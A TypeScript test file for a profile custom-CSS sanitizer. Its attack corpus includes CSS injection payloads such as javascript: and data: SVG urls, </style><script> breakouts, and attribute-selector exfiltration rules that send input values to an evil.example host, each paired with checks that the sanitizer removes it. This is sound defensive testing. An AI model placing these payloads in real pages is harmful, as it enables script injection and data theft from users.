// Pure unit tests for the profile custom-CSS sanitizer: a corpus of known attacks plus positive cases.
import { describe, expect, test, setDefaultTimeout } from "bun:test";
import * as csstree from "css-tree";
import type { CssNode, WalkContext } from "css-tree";
import { AppError } from "../../src/lib/errors";
import { CUSTOM_CSS_MAX_BYTES, sanitizeCustomCss, type SanitizeOptions } from "../../src/modules/user/custom-css";

setDefaultTimeout(30_000); // see tests/setup.ts

const SCOPE = "vrss-profile-42";
const S = `.${SCOPE}`;
const ORIGINS = ["https://cdn.vrss.app/", "http://127.0.0.1:9000/vrss-media/"];
const opts: SanitizeOptions = { scopeClass: SCOPE, mediaOrigins: ORIGINS };
const sanitize = (css: string) => sanitizeCustomCss(css, opts);

/** Substrings that must never be in any output (compared lower-case). */
const NEVER_IN_OUTPUT = [
  "</style", "<!--", "-->", "<", "javascript", "vbscript", "expression", "data:", "@import", "@font-face",
  "@charset", "@namespace", "@layer", "@supports", "behavior", "binding", "position", "evil",
];

// ---------------------------------------------------------------------------------------------
// Invariant checks applied to every output
// ---------------------------------------------------------------------------------------------

function parseStrict(css: string): { ast: CssNode; errors: string[] } {
  const errors: string[] = [];
  const ast = csstree.parse(css, {
    parseValue: true, parseRulePrelude: true, parseAtrulePrelude: true, parseCustomProperty: true,
    onParseError: (e) => { errors.push(e.message); },
  });
  return { ast, errors };
}

/** Every selector outside @keyframes starts with a compound containing the scope class and does not
 *  continue with a sibling combinator; only @media / @keyframes at-rules; urls only from ORIGINS. */
function assertScopedAndSafe(css: string): void {
  const { ast, errors } = parseStrict(css);
  expect(errors).toEqual([]);
  const problems: string[] = [];
  csstree.walk(ast, {
    enter(this: WalkContext, node: CssNode) {
      if (node.type === "Atrule") {
        const name = node.name.toLowerCase();
        if (name !== "media" && name !== "keyframes") problems.push(`at-rule @${node.name}`);
        if (name === "keyframes") {
          const ident = node.prelude?.type === "AtrulePrelude" ? node.prelude.children.first : null;
          if (ident?.type !== "Identifier" || !ident.name.startsWith(`${SCOPE}-`)) problems.push("unscoped @keyframes name");
        }
      }
      if (node.type === "Url" && !ORIGINS.some((o) => node.value.startsWith(o))) problems.push(`url ${node.value}`);
      if (node.type === "Rule" && this.atrule?.name.toLowerCase() !== "keyframes") {
        if (node.prelude.type !== "SelectorList") { problems.push("raw selector"); return; }
        for (const selector of node.prelude.children) {
          if (selector.type !== "Selector") { problems.push("raw selector"); continue; }
          const items = selector.children.toArray();
          const cut = items.findIndex((n) => n.type === "Combinator");
          const first = cut === -1 ? items : items.slice(0, cut);
          const combinator = cut === -1 ? undefined : items[cut];
          if (!first.some((n) => n.type === "ClassSelector" && n.name === SCOPE)) problems.push(`unscoped ${csstree.generate(selector)}`);
          if (combinator?.type === "Combinator" && (combinator.name === "+" || combinator.name === "~")) problems.push(`sibling ${csstree.generate(selector)}`);
        }
      }
    },
  });
  expect(problems).toEqual([]);
  const lower = css.toLowerCase();
  for (const bad of NEVER_IN_OUTPUT) expect(lower.includes(bad) ? bad : null).toBeNull();
}

function assertIdempotent(css: string): void {
  const again = sanitize(css);
  expect(again.css).toBe(css);
}

// ---------------------------------------------------------------------------------------------
// Attack corpus
// ---------------------------------------------------------------------------------------------

interface AttackCase {
  name: string;
  css: string;
  /** Must not appear in the output (case-insensitive). NEVER_IN_OUTPUT is always checked too. */
  absent?: string[];
  /** Must appear in the output verbatim: harmless parts of the same input survive. */
  present?: string[];
  /** Substrings each expected to be found in one of the `removed` notes. */
  notes?: string[];
  /** The attack is neutralised by rewriting (scoping) or silently (comments), so `removed` may be empty. */
  rewrittenOnly?: true;
}

const ATTACKS: AttackCase[] = [
  { name: "@import url(//evil)", css: `@import url(//evil.example/x.css); a{color:red}`, present: [`${S} a{color:red}`], notes: ["@import"] },
  { name: "@import string", css: `@import "evil.css"; p{color:blue}`, absent: ["evil.css"], present: [`${S} p{color:blue}`], notes: ["@import"] },
  { name: "@import inside @media", css: `@media screen{@import "x.css"; a{color:red}}`, absent: ["x.css"], present: [`@media screen{${S} a{color:red}}`] },
  { name: "@font-face remote source", css: `@font-face{font-family:Spy;src:url(https://evil.example/f.woff)} a{font-family:Spy}`, absent: ["f.woff", "src:"], present: [`${S} a{font-family:Spy}`], notes: ["@font-face"] },
  { name: "url(javascript:)", css: `a{background:url(javascript:alert(1));color:red}`, absent: ["alert"], present: ["color:red"] },
  { name: "quoted mixed-case url( \"JaVaScRiPt:\" )", css: `a{background:url( "JaVaScRiPt:alert(1)" );color:red}`, absent: ["alert"], present: ["color:red"], notes: ["url() outside media origin"] },
  { name: "vbscript: url", css: `a{background-image:url("vbscript:msgbox(1)")}`, absent: ["msgbox"], notes: ["url() outside media origin"] },
  { name: "tracking pixel on a foreign origin", css: `a{background:url("https://evil.example/track.png");color:red}`, absent: ["track.png"], present: ["color:red"], notes: ["url() outside media origin"] },
  { name: "data: svg url", css: `a{background-image:url(data:image/svg+xml,%3Csvg%20onload=alert(1)%3E);color:red}`, absent: ["svg", "onload"], present: ["color:red"] },
  { name: "quoted data: svg with markup", css: `a{background-image:url("data:image/svg+xml,<svg onload=alert(1)>")}`, absent: ["svg", "onload"] },
  { name: "data: png is dropped too", css: `a{background:url(data:image/png;base64,iVBORw0KGgo=)}`, absent: ["base64"] },
  { name: "expression()", css: `a{width:expression(alert(1));height:10px}`, absent: ["alert"], present: ["height:10px"], notes: ["function expression()"] },
  { name: "escaped expr\\65 ssion()", css: `a{width:expr\\65 ssion(alert(1));height:10px}`, absent: ["alert", "\\65"], present: ["height:10px"] },
  { name: "behavior: url(x.htc)", css: `a{behavior:url(x.htc);color:red}`, absent: ["htc"], present: ["color:red"], notes: ["property behavior"] },
  { name: "-moz-binding", css: `a{-moz-binding:url(x.xml#xss);color:red}`, absent: ["xss"], present: ["color:red"], notes: ["property -moz-binding"] },
  { name: "-webkit-binding and vendor prefixes", css: `a{-webkit-binding:url(x);-webkit-transform:none;color:red}`, absent: ["-webkit"], present: ["color:red"] },
  { name: "</style> in a raw value", css: `a{color:red;background:</style><script>alert(1)</script>;border:1px solid}`, absent: ["script", "alert"], present: ["color:red", "border:1px solid"] },
  { name: "</style> between rules", css: `a{color:red}</style><script>alert(1)</script>b{color:blue}`, absent: ["script", "alert"], present: [`${S} a{color:red}`] },
  { name: "</style> in a string", css: `a{font-family:"</style><script>alert(1)</script>";color:red}`, absent: ["script", "alert"], present: ["color:red"] },
  { name: "content:\"</style>\"", css: `a::after{content:"</style>";color:red}`, absent: ["content", "style"], present: [`${S} a::after{color:red}`], notes: ["property content"] },
  { name: "escaped \\3c /style\\3e identifier", css: `a{font-family:\\3c /style\\3e;color:red}`, absent: ["3c"], present: ["color:red"] },
  { name: "</style> in an attribute selector", css: `[title="</style>"]{color:red} b{color:blue}`, absent: ["title"], present: [`${S} b{color:blue}`] },
  {
    name: "full-page overlay",
    css: `div{position:fixed;top:0;left:0;right:0;bottom:0;inset:0;width:100vw;height:100vh;z-index:2147483647;background:white}`,
    absent: ["top:", "left:", "right:", "bottom:", "inset", "2147483647"],
    present: [`${S} div{`, "width:100vw", "height:100vh", "z-index:100", "background:white"],
    notes: ["property position", "property top", "property inset", "z-index"],
  },
  { name: "position: sticky/absolute", css: `a{position:absolute} b{position:sticky;color:red}`, present: [`${S} b{color:red}`], notes: ["property position"] },
  { name: "body{display:none} is scoped to the profile", css: `body{display:none}`, present: [`${S}{display:none}`], absent: ["body"], rewrittenOnly: true },
  { name: "html, :root, * selectors", css: `html, :root, * {color:red} html body > div{margin:0}`, absent: ["html", "root", "body"], present: [`${S},${S},${S} *{color:red}`, `${S}>div{margin:0}`], rewrittenOnly: true },
  { name: ":host / :has / root inside :is()", css: `:host{color:red} a:has(img){color:red} :is(html) a{color:red} :where(:root) b{color:red} p{color:green}`, absent: ["host", "has(", "html", "root"], present: [`${S} p{color:green}`] },
  { name: "siblings of the root or leading combinators", css: `body ~ div{color:red} html + body{color:red} ~ .x{color:red} + .y{color:red} .ok{color:green}`, absent: ["~", "+", ".x", ".y"], present: [`${S} .ok{color:green}`] },
  { name: "nested rules and &", css: `a{color:red; & ~ x{color:blue} .b{color:green} @media print{color:black}} & b{color:red}`, absent: ["&", "blue", "green", "black"], present: [`${S} a{color:red}`] },
  { name: "attribute exfiltration (a[href^=])", css: `a[href^="https://bank"]{background:url(https://evil.example/?leak);color:red}`, absent: ["leak"], present: [`${S} a[href^="https://bank"]{color:red}`] },
  { name: "attribute exfiltration (input[value^=])", css: `input[value^="a"]{background:url(https://evil.example/?a)} input[value^="b"]{background-image:url(https://evil.example/?b)}`, absent: ["?a", "?b", "input"], notes: ["url() outside media origin"] },
  { name: "@charset", css: `@charset "utf-7"; a{color:red}`, absent: ["utf-7"], present: [`${S} a{color:red}`], notes: ["@charset"] },
  { name: "@namespace", css: `@namespace svg url(http://www.w3.org/2000/svg); a{color:red}`, absent: ["w3.org"], present: [`${S} a{color:red}`], notes: ["@namespace"] },
  { name: "@layer statement and block", css: `@layer base, evil; @layer base{body{color:red}} a{color:blue}`, absent: ["base", "red"], present: [`${S} a{color:blue}`], notes: ["@layer"] },
  { name: "@supports / @page / @property / @container / @scope / @-webkit-keyframes", css: `@supports (display:grid){a{position:fixed}} @page{margin:0} @property --x{syntax:'*';inherits:false} @container (min-width:1px){a{color:red}} @scope (.a){b{color:red}} @-webkit-keyframes k{from{color:red}} a{color:blue}`, absent: ["page", "property", "container", "scope", "webkit", "red"], present: [`${S} a{color:blue}`] },
  { name: "escaped at-rule name @m\\65 dia", css: `@m\\65 dia all{a{color:red}} b{color:blue}`, absent: ["\\65", "red"], present: [`${S} b{color:blue}`] },
  { name: "@media with inner attacks", css: `@media (max-width:600px){a{color:red;position:fixed;background:url(https://evil.example/x)} body{display:none} @import "x.css";}`, absent: ["x.css", "fixed", "body"], present: [`@media (max-width:600px){${S} a{color:red}${S}{display:none}}`] },
  { name: "@media query smuggling url()/strings", css: `@media (foo:url(https://evil.example/)){a{color:red}} @media (min-width:calc(1px + "</style>")){a{color:red}} b{color:blue}`, absent: ["red"], present: [`${S} b{color:blue}`] },
  { name: "@keyframes overriding a site animation", css: `@keyframes spin{from{opacity:0;position:fixed}to{opacity:1}} a{animation:spin 1s linear infinite} b{animation-name:spin}`, absent: ["@keyframes spin{"], present: [`@keyframes ${SCOPE}-spin{from{opacity:0}to{opacity:1}}`, `animation:${SCOPE}-spin 1s linear infinite`, `animation-name:${SCOPE}-spin`] },
  { name: "@keyframes with a string name or bad frames", css: `@keyframes "fade"{0%{opacity:0}100%{opacity:1}} @keyframes none{from{color:red}} @keyframes k{.x{color:red}}`, absent: ["none", "red"], present: [`@keyframes ${SCOPE}-fade{0%{opacity:0}100%{opacity:1}}`] },
  { name: "custom property holding url(javascript:)", css: `a{--x:url(javascript:alert(1));--y:url("javascript:alert(1)");--z:"javascript:alert(1)";--ok:#fff;background:var(--x);color:var(--ok)}`, absent: ["alert", "--x:", "--y:", "--z:"], present: ["--ok:#fff", "background:var(--x)", "color:var(--ok)"] },
  { name: "var() fallback with a foreign url", css: `a{--w:var(--x,url(https://evil.example/));background:var(--y,url(https://evil.example/));color:red}`, absent: ["--w"], present: ["color:red"] },
  { name: "unicode-escaped \\6a avascript: in a url", css: `a{background:url("\\6a avascript:alert(1)");color:red}`, absent: ["alert", "6a"], present: ["color:red"] },
  { name: "unicode-escaped javascript identifier/function", css: `a{background:\\6a avascript\\3a alert(1);color:red}`, absent: ["alert", "6a"], present: ["color:red"] },
  { name: "comments splitting java/**/script:", css: `a{background:java/**/script:alert(1);color:red} b{background:url("java/**/script:alert(1)")}`, absent: ["alert", "java"], present: [`${S} a{color:red}`] },
  { name: "escaped u\\72 l(", css: `a{background:u\\72 l(https://evil.example/x.png);color:red}`, absent: ["\\72", "x.png"], present: ["color:red"] },
  { name: "image-set() with a foreign url", css: `a{background-image:image-set(url(https://evil.example/a.png) 1x);color:red}`, absent: ["image-set", "a.png"], present: ["color:red"] },
  { name: "image-set() with a foreign string / var()", css: `a{background-image:image-set("https://evil.example/a.png" 1x)} b{background-image:-webkit-image-set(var(--x) 1x)}`, absent: ["image-set"] },
  { name: "cursor:url(), auto", css: `a{cursor:url(https://evil.example/c.cur),auto} b{cursor:pointer}`, absent: ["c.cur"], present: [`${S} b{cursor:pointer}`], notes: ["url() outside media origin"] },
  { name: "filter:url(#x)", css: `a{filter:url(#x);color:red}`, absent: ["#x"], present: ["color:red"] },
  { name: "filter:url(https://…/f.svg#f)", css: `a{filter:blur(2px) url(https://evil.example/f.svg#f)} b{filter:blur(2px)}`, absent: ["f.svg"], present: [`${S} b{filter:blur(2px)}`] },
  { name: "attr() and env()", css: `a{width:attr(data-w px);padding:env(safe-area-inset-top);color:red}`, absent: ["attr", "env("], present: ["color:red"], notes: ["function attr()", "function env()"] },
  { name: "pointer-events, clip-path, mask", css: `a{pointer-events:none;clip-path:url(#c);mask:url(m.svg);mask-image:none;color:red}`, absent: ["pointer", "clip", "mask"], present: ["color:red"] },
  { name: "relative and protocol-relative urls", css: `a{background:url(//evil.example/x.png)} b{background:url(/x.png)} c{background:url(x.png)} d{color:red}`, absent: ["x.png"], present: [`${S} d{color:red}`] },
  { name: "media-origin look-alikes and traversal", css: `a{background:url(https://cdn.vrss.app.evil.com/x.png)} b{background:url(https://cdn.vrss.app@evil.com/x.png)} c{background:url(http://127.0.0.1:9000/vrss-media/../secret/x.png)} d{background:url(https://cdn.vrss.app/%2e%2e/x.png)} e{background:url(HTTPS://CDN.VRSS.APP/x.png)} f{background:url("https://cdn.vrss.app/a\\\\b.png")}`, absent: ["x.png", "secret", "b.png"] },
  { name: "z-index through var() or non-integers", css: `a{z-index:var(--z)} b{z-index:1.5} c{z-index:calc(9999999)} d{z-index:-5}`, absent: ["var", "1.5", "calc"], present: [`${S} d{z-index:0}`] },
  { name: "garbage and unbalanced braces", css: `a{}} body{background:red} }}}{{{ ;;; @@@ p{color:green`, absent: ["background:red", "body"] },
  { name: "stray closing braces after a valid rule", css: `a{color:red;}}}} b{color:blue}`, present: [`${S} a{color:red}`] },
  { name: "<!-- and --> (CDO/CDC)", css: `<!-- a{color:red} -->`, present: [`${S} a{color:red}`], notes: ["<!--", "-->"] },
  { name: "selector that would print -->", css: `.a-- > b{color:red} .c{color:blue}`, present: [`${S} .c{color:blue}`] },
  { name: "value that would print -->", css: `a{font-family:a-- >b;color:red}`, present: ["color:red"] },
  { name: "comment carrying </style>", css: `/*! </style><script>alert(1)</script> */ a{color:red}`, absent: ["script"], present: [`${S} a{color:red}`], rewrittenOnly: true },
  { name: "!ie hack", css: `a{color:red !ie;width:1px}`, absent: ["!ie", "red"], present: ["width:1px"] },
  // Containment (issue 16): the site's own @keyframes may never be run by name.
  { name: "site keyframes by name (shorthand and longhand)", css: `a{animation:vrss-site-pulse 1s infinite;color:red} b{animation-name:vrss-site-pulse}`, absent: ["vrss-site-pulse", "animation"], present: [`${S} a{color:red}`], notes: [`animation naming "vrss-site-pulse"`, `animation-name naming "vrss-site-pulse"`] },
  { name: "site keyframes escaped or as a string", css: `a{animation-name:vrss\\-site-pulse} b{animation:\\76 rss-site-pulse 2s} c{animation-name:"vrss-site-pulse"} d{color:red}`, absent: ["site-pulse", "\\76"], present: [`${S} d{color:red}`] },
  { name: "keyframes name through var()", css: `a{--k:vrss-site-pulse;animation-name:var(--k)} b{animation:var(--k) 1s}`, absent: ["animation"], present: [`${S} a{--k:vrss-site-pulse}`], notes: ["var() in animation-name", "var() in animation"] },
  { name: "another profile's keyframes, or ours undefined", css: `a{animation-name:vrss-profile-7-spin} b{animation-name:${SCOPE}-nope} c{animation-name:spin, vrss-site-pulse} d{color:red}`, absent: ["animation"], present: [`${S} d{color:red}`] },
  { name: "reference to a dropped @keyframes", css: `@keyframes gone{from{position:fixed}} @media (foo:url(x)){@keyframes hid{from{opacity:0}}} a{animation:gone 1s} b{animation-name:hid} c{color:red}`, absent: ["gone", "hid", "animation"], present: [`${S} c{color:red}`] },
  { name: "animation inside a keyframe", css: `@keyframes k{from{animation:vrss-site-pulse 1s;opacity:0}to{opacity:1}}`, absent: ["site-pulse"], present: [`@keyframes ${SCOPE}-k{from{opacity:0}to{opacity:1}}`], notes: ["animation inside @keyframes"] },
  { name: "CSS-wide keyword misplaced in an animation list", css: `a{animation-name:inherit, none} b{animation:1s inherit} c{color:red}`, absent: ["animation"], present: [`${S} c{color:red}`] },
  { name: "animation-name other than names", css: `a{animation-name:1s} b{animation-name:calc(1)} c{animation-name:#fff} d{color:red}`, absent: ["animation"], present: [`${S} d{color:red}`] },
  // Containment: top-layer boxes are painted above everything, whatever wraps the profile.
  { name: "top-layer pseudo-elements and pseudo-classes", css: `dialog::backdrop{background:red} :modal{transform:scale(9)} div:popover-open{color:red} video:fullscreen{color:red} ::view-transition-old(x){color:red} select::picker(select){color:red} a:is(:modal) b{color:red} :not(::backdrop){color:red} p{color:green}`, absent: ["backdrop", "modal", "popover", "fullscreen", "view-transition", "picker", "red"], present: [`${S} p{color:green}`], notes: ["top layer ::backdrop", "top layer :modal"] },
];

describe("custom CSS attack corpus", () => {
  test("the corpus has at least 30 entries", () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(30);
  });

  for (const c of ATTACKS) {
    test(c.name, () => {
      const result = sanitize(c.css);
      const lower = result.css.toLowerCase();
      for (const bad of c.absent ?? []) expect({ bad, found: lower.includes(bad.toLowerCase()) }).toEqual({ bad, found: false });
      for (const good of c.present ?? []) expect(result.css).toContain(good);
      for (const note of c.notes ?? []) expect(result.removed.some((r) => r.includes(note)) ? note : result.removed).toBe(note);
      if (!c.rewrittenOnly) expect(result.removed.length).toBeGreaterThan(0);
    });
  }

  test("no corpus output contains a forbidden substring, an unscoped selector or a foreign url", () => {
    for (const c of ATTACKS) {
      const { css } = sanitize(c.css);
      assertScopedAndSafe(css);
    }
  });

  test("every corpus output re-parses cleanly and is a fixed point of the sanitizer", () => {
    for (const c of ATTACKS) {
      const { css } = sanitize(c.css);
      expect(parseStrict(css).errors).toEqual([]);
      assertIdempotent(css);
    }
  });

  test("hostile input never throws, even when concatenated", () => {
    const all = ATTACKS.map((c) => c.css).join("\n");
    const result = sanitize(all);
    assertScopedAndSafe(result.css);
    assertIdempotent(result.css);
  });

  test("pathological nesting is cut out deterministically; the rest is kept", () => {
    const balanced = [
      `a{width:calc(${"(".repeat(40)}1px${")".repeat(40)})}`,
      `${"a:not(".repeat(2500)}b${")".repeat(2500)}{color:red}`,
      `a{width:calc(${"(".repeat(9000)}1px${")".repeat(9000)})}`,
      `${"@media all{".repeat(40)}a{color:red}${"}".repeat(40)}`,
    ];
    for (const deep of balanced) {
      const result = sanitize(`p{color:green}${deep}q{color:blue}`);
      expect(result.css).toBe(`${S} p{color:green}${S} q{color:blue}`);
      expect(result.removed).toContain("CSS nested more than 32 levels deep");
    }
    const unclosed = ["@media all{".repeat(1500), "{".repeat(19_000), `a{b:calc(${"(".repeat(19_000)}}`, "[(".repeat(5000)];
    for (const deep of unclosed) {
      const result = sanitize(`p{color:green}${deep}`);
      expect(result.css).toBe(`${S} p{color:green}`);
    }
    // Legitimate nesting well under the limit is untouched.
    const fine = sanitize(`@media (min-width:1px){@media (max-width:999px){a:not(:hover){width:calc(((1px + 2px) * 3))}}}`);
    expect(fine.css).toBe(`@media (min-width:1px){@media (max-width:999px){${S} a:not(:hover){width:calc(((1px + 2px)*3))}}}`);
    const junk = sanitize("\u0000\uffff\ud800</style>".repeat(100));
    assertScopedAndSafe(junk.css);
  });
});

// ---------------------------------------------------------------------------------------------
// Size limit
// ---------------------------------------------------------------------------------------------

describe("size limit", () => {
  test("input over 20 KB is BAD_REQUEST / CSS_TOO_LARGE on field customCSS", () => {
    const huge = `a{color:red}${" ".repeat(CUSTOM_CSS_MAX_BYTES)}`;
    let caught: unknown;
    try { sanitize(huge); } catch (e) { caught = e; }
    expect(caught).toBeInstanceOf(AppError);
    const error = caught as AppError;
    expect(error.code).toBe("BAD_REQUEST");
    expect(error.field).toBe("customCSS");
    expect(error.appCode).toBe("CSS_TOO_LARGE");
    expect(error.message).toBe("customCSS is larger than 20 KB");
  });

  test("the limit counts UTF-8 bytes, not characters", () => {
    const exact = `a{}${" ".repeat(CUSTOM_CSS_MAX_BYTES - 3)}`;
    expect(() => sanitize(exact)).not.toThrow();
    const multiByte = `/*${"é".repeat(10_000)}*/`; // 10 004 chars, 20 004 bytes
    expect(multiByte.length).toBeLessThan(CUSTOM_CSS_MAX_BYTES);
    expect(() => sanitize(multiByte)).toThrow(AppError);
  });
});

// ---------------------------------------------------------------------------------------------
// Positive cases
// ---------------------------------------------------------------------------------------------

describe("ordinary CSS survives, scoped", () => {
  test("colours, fonts, borders, flex and @media", () => {
    const input = `
      body { background-color: #fafafa; color: #333; font-family: "Comic Sans MS", Georgia, serif; }
      h1, .title > span { font-size: 2em; font-weight: bold; text-shadow: 1px 1px 2px rgba(0,0,0,.5); }
      .box { border: 2px dashed hotpink; border-radius: 8px; padding: 4px 8px; margin: 0 auto; box-shadow: 0 0 4px #000; }
      .row { display: flex; flex-wrap: wrap; gap: 1rem; justify-content: space-between; align-items: center; }
      a:hover { color: red !important; text-decoration: underline wavy; }
      @media (max-width: 600px) { .row { flex-direction: column; } }
    `;
    const result = sanitize(input);
    expect(result.removed).toEqual([]);
    expect(result.css).toBe(
      `${S}{background-color:#fafafa;color:#333;font-family:"Comic Sans MS",Georgia,serif}` +
      `${S} h1,${S} .title>span{font-size:2em;font-weight:bold;text-shadow:1px 1px 2px rgba(0,0,0,.5)}` +
      `${S} .box{border:2px dashed hotpink;border-radius:8px;padding:4px 8px;margin:0 auto;box-shadow:0 0 4px #000}` +
      `${S} .row{display:flex;flex-wrap:wrap;gap:1rem;justify-content:space-between;align-items:center}` +
      `${S} a:hover{color:red!important;text-decoration:underline wavy}` +
      `@media (max-width:600px){${S} .row{flex-direction:column}}`,
    );
    assertScopedAndSafe(result.css);
    assertIdempotent(result.css);
  });

  test("selector lists are prefixed one by one; :not(.scope) stays inside the scope", () => {
    expect(sanitize(`a, .x > p { color: red }`).css).toBe(`${S} a,${S} .x>p{color:red}`);
    expect(sanitize(`:not(.${SCOPE}) { color: red }`).css).toBe(`${S} :not(${S}){color:red}`);
    expect(sanitize(`${S} a { color: red }`).css).toBe(`${S} a{color:red}`);
    expect(sanitize(`${S} ~ a { color: red }`).css).toBe(`${S} ${S}~a{color:red}`);
    expect(sanitize(`body.dark p, html:hover::before { color: red }`).css).toBe(`${S}.dark p,${S}:hover::before{color:red}`);
  });

  test("url() from an allowed media origin survives (both origins, quoted or not, image-set)", () => {
    const input = `a{background:url(https://cdn.vrss.app/u/1/bg.png) no-repeat} ` +
      `b{background-image:url("http://127.0.0.1:9000/vrss-media/u/1/x.jpg")} ` +
      `c{background-image:image-set("https://cdn.vrss.app/a.png" 1x,url(https://cdn.vrss.app/b.png) 2x)} ` +
      `d{list-style-image:url( 'https://cdn.vrss.app/dot.gif' )}`;
    const result = sanitize(input);
    expect(result.css).toContain(`${S} a{background:url(https://cdn.vrss.app/u/1/bg.png)no-repeat}`);
    expect(result.css).toContain(`${S} b{background-image:url(http://127.0.0.1:9000/vrss-media/u/1/x.jpg)}`);
    expect(result.css).toContain(`image-set("https://cdn.vrss.app/a.png"1x,url(https://cdn.vrss.app/b.png)2x)`);
    expect(result.css).toContain(`${S} d{list-style-image:url(https://cdn.vrss.app/dot.gif)}`);
    assertScopedAndSafe(result.css);
    assertIdempotent(result.css);
  });

  test("an origin passed without a trailing slash does not admit look-alike hosts", () => {
    const result = sanitizeCustomCss(
      `a{background:url(https://cdn.vrss.app/x.png)} b{background:url(https://cdn.vrss.app.evil.com/x.png)}`,
      { scopeClass: SCOPE, mediaOrigins: ["https://cdn.vrss.app"] },
    );
    expect(result.css).toBe(`${S} a{background:url(https://cdn.vrss.app/x.png)}`);
  });

  test("no media origins configured: every url() is dropped", () => {
    const result = sanitizeCustomCss(`a{background:url(https://cdn.vrss.app/x.png);color:red}`, { scopeClass: SCOPE, mediaOrigins: [] });
    expect(result.css).toBe(`${S} a{color:red}`);
  });

  test("z-index is clamped to 0..100", () => {
    expect(sanitize(`a{z-index:50}`).css).toBe(`${S} a{z-index:50}`);
    expect(sanitize(`a{z-index:-5}`).css).toBe(`${S} a{z-index:0}`);
    expect(sanitize(`a{z-index:2147483647}`).css).toBe(`${S} a{z-index:100}`);
    expect(sanitize(`a{z-index:auto}`).css).toBe(`${S} a{z-index:auto}`);
    expect(sanitize(`a{z-index:1.5}`).css).toBe("");
  });

  test("custom properties, gradients, transforms, grid and animations", () => {
    const input = `:root{--accent:#f0c;--gap:calc(1rem + 2px)}
      .card{color:var(--accent);gap:var(--gap);background:linear-gradient(to right,#fff 0%,rgba(0,0,0,.5) 100%);
        transform:rotate(3deg) scale(1.05);transition:transform .3s ease-in-out;
        grid-template-columns:repeat(3,minmax(0,1fr));grid-template-areas:"a b" "c d";aspect-ratio:16/9;
        cursor:pointer;opacity:.9;filter:drop-shadow(0 0 2px black)}
      @keyframes pulse{0%{opacity:1}50%{opacity:.5}100%{opacity:1}}
      .card:hover{animation:pulse 2s infinite}`;
    const result = sanitize(input);
    expect(result.removed).toEqual([]);
    expect(result.css).toContain(`${S}{--accent:#f0c;--gap:calc(1rem + 2px)}`);
    expect(result.css).toContain(`@keyframes ${SCOPE}-pulse{`);
    expect(result.css).toContain(`animation:${SCOPE}-pulse 2s infinite`);
    expect(result.css).toContain(`grid-template-areas:"a b""c d"`);
    assertScopedAndSafe(result.css);
    assertIdempotent(result.css);
  });

  test("removed notes describe what was dropped", () => {
    const { removed } = sanitize(`@import "x.css"; a{position:fixed;background:url(https://evil.example/x.png);color:red}`);
    expect(removed).toContain("@import");
    expect(removed).toContain("property position");
    expect(removed).toContain("url() outside media origin");
  });

  test("empty and whitespace-only input give empty output", () => {
    expect(sanitize("")).toEqual({ css: "", removed: [] });
    expect(sanitize("  \n\t /* just a comment */ ")).toEqual({ css: "", removed: [] });
  });

  test("an invalid scopeClass is a programming error", () => {
    expect(() => sanitizeCustomCss("a{color:red}", { scopeClass: "x{}body", mediaOrigins: [] })).toThrow();
  });
});

// ---------------------------------------------------------------------------------------------
// Containment (issue 16): what the sanitizer guarantees next to the page's wrapper
// ---------------------------------------------------------------------------------------------

describe("containment contract", () => {
  test("own keyframes are renamed everywhere they are named; the shorthand's keywords stay keywords", () => {
    const result = sanitize(`@keyframes spin{to{transform:rotate(1turn)}} @media (min-width:1px){@keyframes "fade"{to{opacity:0}}}
      a{animation:spin 2s EASE-IN-OUT infinite alternate both paused,fade 1s steps(4,jump-start) 2}
      b{animation-name:spin,"fade",none} c{animation:none} d{animation-name:INHERIT} e{animation:revert-layer}`);
    expect(result.removed).toEqual([]);
    expect(result.css).toContain(`${S} a{animation:${SCOPE}-spin 2s ease-in-out infinite alternate both paused,${SCOPE}-fade 1s steps(4,jump-start)2}`);
    expect(result.css).toContain(`${S} b{animation-name:${SCOPE}-spin,${SCOPE}-fade,none}`);
    expect(result.css).toContain(`${S} c{animation:none}`);
    expect(result.css).toContain(`${S} d{animation-name:inherit}`);
    expect(result.css).toContain(`${S} e{animation:revert-layer}`);
    assertScopedAndSafe(result.css);
    assertIdempotent(result.css);
  });

  test("a user's @keyframes named like the site's is theirs, renamed; a reference then names theirs", () => {
    const result = sanitize(`@keyframes vrss-site-pulse{to{opacity:0}} a{animation:vrss-site-pulse 1s}`);
    expect(result.css).toBe(`@keyframes ${SCOPE}-vrss-site-pulse{to{opacity:0}}${S} a{animation:${SCOPE}-vrss-site-pulse 1s}`);
    assertIdempotent(result.css);
  });

  test("every animation reference in any output names a @keyframes of that output", () => {
    const inputs = [
      ...ATTACKS.map((c) => c.css),
      `@keyframes a{to{opacity:0}} @keyframes b{} x{animation:a 1s,b 2s} y{animation-name:b}`,
      `@media print{@keyframes p{to{color:red}}} x{animation-name:p}`,
    ];
    for (const input of inputs) {
      const { css } = sanitize(input);
      const defined = new Set<string>();
      const named: string[] = [];
      csstree.walk(parseStrict(css).ast, (node: CssNode) => {
        if (node.type === "Atrule" && node.name === "keyframes" && node.prelude?.type === "AtrulePrelude") {
          const id = node.prelude.children.first;
          if (id?.type === "Identifier") defined.add(id.name);
        }
        if (node.type === "Declaration" && node.property.startsWith("animation") && node.value.type === "Value") {
          for (const part of node.value.children) {
            if (part.type === "String") named.push(part.value);
            if (part.type === "Identifier" && part.name.startsWith("vrss")) named.push(part.name);
            if (part.type === "Function" && part.name === "var") named.push("var()");
          }
        }
      });
      for (const name of named) expect({ input, name, defined: defined.has(name) }).toEqual({ input, name, defined: true });
    }
  });

  test("!important is kept, on the scope element and inside it (the wrapper, not the sanitizer, protects the chrome)", () => {
    const result = sanitize(`body{transform:scale(20)!important;margin:-999px ! important} a{color:red!IMPORTANT}`);
    expect(result.removed).toEqual([]);
    expect(result.css).toBe(`${S}{transform:scale(20)!important;margin:-999px!important}${S} a{color:red!important}`);
    assertIdempotent(result.css);
  });

  test("selectors that name the root, an ancestor, the wrapper or the chrome stay inside the scope", () => {
    const cases: Array<[string, string]> = [
      [`html body #vrss-site-header{display:none}`, `${S} #vrss-site-header{display:none}`],
      [`:root > body > footer{display:none}`, `${S}>footer{display:none}`],
      [`#vrss-profile-frame{display:none}`, `${S} #vrss-profile-frame{display:none}`],
      [`.vrss-chrome,header{display:none}`, `${S} .vrss-chrome,${S} header{display:none}`],
      [`:is(.vrss-page .x) a{color:red}`, `${S} :is(.vrss-page .x) a{color:red}`],
      [`:where(.vrss-page){color:red}`, `${S} :where(.vrss-page){color:red}`],
      [`.x .${SCOPE} a{color:red}`, `${S} .x ${S} a{color:red}`],
      [`.${SCOPE}:is(.a){color:red}`, `${S}:is(.a){color:red}`],
